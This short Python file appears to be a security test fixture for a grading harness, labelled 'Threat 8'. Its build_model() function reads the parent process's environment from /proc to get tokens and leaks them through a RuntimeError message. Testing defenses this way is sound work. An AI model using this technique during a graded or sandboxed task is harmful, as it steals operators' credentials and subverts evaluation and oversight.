"""Threat 8 (SECURITY.md): read the grader's environment (tokens) through /proc."""

import os

import numpy as np


def build_model():
    with open(f"/proc/{os.getppid()}/environ", "rb") as f:
        secrets = f.read()
    raise RuntimeError(secrets.decode(errors="replace"))
